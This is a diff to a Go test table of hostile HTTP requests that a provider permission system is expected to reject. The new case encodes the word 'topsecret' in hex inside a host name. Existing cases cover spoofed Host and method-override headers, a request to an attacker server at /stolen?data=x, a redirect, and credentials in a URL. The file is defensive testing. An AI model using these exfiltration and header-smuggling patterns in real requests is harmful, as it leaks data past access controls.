@@ -239,6 +239,7 @@ func TestHTTPHostile(t *testing.T) {
 		{"method override", "live", "header X-HTTP-Method-Override=DELETE " + s.URL + "/things/a", false, []string{"a provider may not set the header X-Http-Method-Override"}},
 		{"host header", "live", "header Host=evil.example " + s.URL + "/things/a", false, []string{"a provider may not set the header Host"}},
 		{"another origin", "live", "GET " + evil.URL + "/stolen?data=x", false, []string{"no grant names the origin " + evil.URL}},
+		{"data in a host name", "live", "GET http://746f70736563726574." + strings.TrimPrefix(s.URL, "http://") + "/x", false, []string{"no grant names the origin http://746f70736563726574."}},
 		{"redirect", "live", "follow " + s.URL + "/leave", false, []string{"no grant names the origin " + evil.URL}},
 		{"user in the URL", "live", "GET " + strings.Replace(s.URL, "//", "//user:pw@", 1) + "/x", false, []string{"names a user"}},
 		{"undeclared delete", "apply", "DELETE " + s.URL + "/things/keep", true, []string{`provider "net" (net.things), while applying`, "http DELETE " + s.URL + "/things/keep", "the plan that was reviewed does not say"}},
